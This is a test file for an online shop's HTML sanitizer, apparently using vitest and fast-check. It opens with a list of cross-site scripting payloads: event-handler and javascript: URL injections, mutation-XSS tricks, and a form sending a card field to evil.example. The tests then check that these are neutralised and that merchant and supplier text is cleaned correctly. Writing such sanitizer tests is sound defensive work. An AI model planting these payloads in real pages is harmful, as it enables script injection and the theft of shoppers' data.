import fc from "fast-check";
import { expect, test } from "vitest";
import { cleanHtml, cleanSupplierHtml, escapeHtml, textOf } from "./html.rules.ts";

/** Ways a script has got into shops before (OWASP's filter-evasion sheet, sanitizer advisories). */
const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<form action=https://evil.example><input name=card></form>",
  "<p style='background:url(javascript:alert(1))' onclick='alert(1)'>x</p>",
  "<style>@import 'https://evil.example'</style>",
  "<object data=x></object><embed src=x><base href=https://evil.example>",
  "<template><img src=x onerror=alert(1)></template>",
  "</textarea><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</script>",
];

const dangerous =
  /<(?!\/?(?:p|h[234]|ul|ol|li|blockquote|hr|table|thead|tbody|tr|th|td|br|strong|em|u|s|sub|sup|a)\b)|\son\w+=|style=|href="(?!https?:|mailto:)/i;

test.each(attacks)("%s loses its teeth", (html) => {
  for (const clean of [cleanHtml(html), cleanSupplierHtml(html)]) expect(clean).not.toMatch(dangerous);
});

test("whatever comes, only known elements leave, and cleaning again changes nothing", () => {
  const pieces = fc.constantFrom(...attacks, "<p>", "</p>", "<", ">", "&lt;", "<b>bold</b>", "<h1>T</h1>", "&amp;", '"', "'", "x ");
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
      const clean = cleanHtml(parts.join(""));
      expect(clean).not.toMatch(dangerous);
      expect(cleanHtml(clean)).toBe(clean);
    }),
    { numRuns: 2_000 },
  );
});

test("what a merchant writes keeps its form", () => {
  const html =
    '<h2>Care</h2><p>Wash <strong>cold</strong>. <a href="https://example.org/care" rel="nofollow noopener">More</a></p><ul><li>Iron</li></ul>';
  expect(cleanHtml(html)).toBe(html);
  expect(cleanHtml("<h1>Big</h1><b>fat</b>")).toBe("<h2>Big</h2><strong>fat</strong>");
});

test("a supplier's text loses links, pictures, addresses and empty shells", () => {
  const html =
    '<div><p><img src="https://ae01.alicdn.com/x.jpg"></p><p>Soft light. See www.lamp-factory.com or https://bad.example/x?y</p><div><br></div><a href="https://s.click.aliexpress.com/e/1">Follow us</a></div>';
  const clean = cleanSupplierHtml(html);
  expect(clean).toContain("Soft light. See");
  expect(clean).not.toMatch(/href|img|https?:|www\.|<p>\s*<\/p>/);
});

test("a supplier's sentence that is unfit goes, and the ones around it stay", () => {
  const unfit = (text: string) => /free shipping/i.test(text);
  expect(
    cleanSupplierHtml("<p>Folds flat. Free shipping today! Weighs 2.5 kg.</p><ul><li>Free shipping</li><li>Warm light</li></ul>", unfit),
  ).toBe("<p>Folds flat. Weighs 2.5 kg.</p><ul><li>Warm light</li></ul>");
  expect(cleanSupplierHtml("Warm light.<br>FREE SHIPPING<br>Cold light.", unfit)).toBe("Warm light.<br />Cold light.");
});

test("the words of some HTML are read line by line", () => {
  expect(textOf("<h2>Lamp</h2><ul><li>Dimmable &amp; warm</li><li>5&nbsp;W</li></ul><script>x()</script>")).toBe(
    "Lamp\nDimmable & warm\n5 W",
  );
});

test("a table is read row by row", () => {
  expect(textOf("<table><tr><td><p>Material</p></td><td>Steel</td></tr><tr><th>Weight</th><td>1 kg</td></tr></table>")).toBe(
    "Material: Steel\nWeight: 1 kg",
  );
});

test("escaped text is read back as it was", () => {
  fc.assert(
    fc.property(fc.string({ unit: "grapheme-ascii" }), (text) => {
      expect(textOf(`<p>${escapeHtml(text)}</p>`)).toBe(text.replace(/\s+/g, " ").trim());
    }),
  );
});
